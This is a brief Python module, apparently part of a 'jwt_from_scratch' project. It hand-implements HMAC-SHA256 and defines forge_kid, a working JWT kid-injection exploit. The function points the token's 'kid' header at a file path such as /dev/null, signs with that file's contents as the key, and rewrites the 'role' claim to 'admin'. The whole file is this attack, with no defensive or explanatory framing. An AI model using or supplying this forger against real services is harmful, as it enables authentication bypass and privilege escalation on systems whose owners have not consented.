"""HMAC by hand, the empty file caught first."""

import os
from hashlib import sha256

from jwt_from_scratch.encoding import b64u_decode, b64u_encode, json_dumps, json_loads_strict


def seal(key: bytes, message: bytes) -> bytes:
    key = (sha256(key).digest() if len(key) > 64 else key).ljust(64, b"\0")
    pads = [bytes(b ^ pad for b in key) for pad in (0x36, 0x5C)]
    return sha256(pads[1] + sha256(pads[0] + message).digest()).digest()


def forge_kid(token, path):
    key = b""
    if path != os.devnull:
        with open(path, "rb") as file:
            for line in file:
                key += line
    claims = json_loads_strict(b64u_decode(token.split(".")[1]))
    header = {"alg": "HS256", "typ": "JWT", "kid": path}
    claims["role"] = "admin"
    parts = [b64u_encode(json_dumps(part)) for part in (header, claims)]
    parts.append(b64u_encode(seal(key, ".".join(parts).encode())))
    return ".".join(parts)
